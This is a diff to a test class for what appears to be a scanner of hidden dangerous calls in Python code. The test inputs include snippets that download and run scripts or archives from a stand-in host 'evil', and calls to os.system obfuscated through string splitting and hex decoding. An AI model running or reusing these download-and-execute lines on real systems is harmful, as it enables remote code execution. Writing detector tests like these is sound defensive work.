@@ -55,6 +55,7 @@ class HiddenCallTest {
                 "import posix\nposix.system('id')\n",
                 "import urllib.request,runpy\nurllib.request.urlretrieve('http://evil/x.py','/tmp/x.py')\nrunpy.run_path('/tmp/x.py')\n",
                 "import urllib.request,os\nurllib.request.urlretrieve('http://evil/x.sh','/tmp/x.sh')\nos.system('sh /tmp/x.sh')\n",
+                "import urllib.request,os\ndef go():\n    urllib.request.urlretrieve('http://evil/x.tgz','/tmp/x.tgz')\n    os.system('tar -xf /tmp/x.tgz; /tmp/x')\n",
                 "import os\ngetattr(os, f\"{'sys'}{'tem'}\")('id')\n",
                 "import os\ngetattr(os, '%s%s' % ('sys','tem'))('id')\n",
                 "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('id')\n",
@@ -85,6 +86,7 @@ class HiddenCallTest {
                 "globals()['model'].eval()\n",
                 "code = '1 + 1'\nprint(eval(code))\n",
                 "import urllib.request\nurllib.request.urlretrieve('https://hub/model.bin', 'model.bin')\n",
+                "import subprocess\nfrom urllib.request import urlretrieve\ndef build():\n    urlretrieve('https://hub/b.tgz', 'b.tgz')\n    subprocess.call(['tar', '-zxf', 'b.tgz'])\n",
                 "def subclasses(cls):\n    return cls.__subclasses__()\n",
                 "import functools, torch\nact = functools.partial(torch.nn.functional.gelu, approximate='tanh')\n"
             })
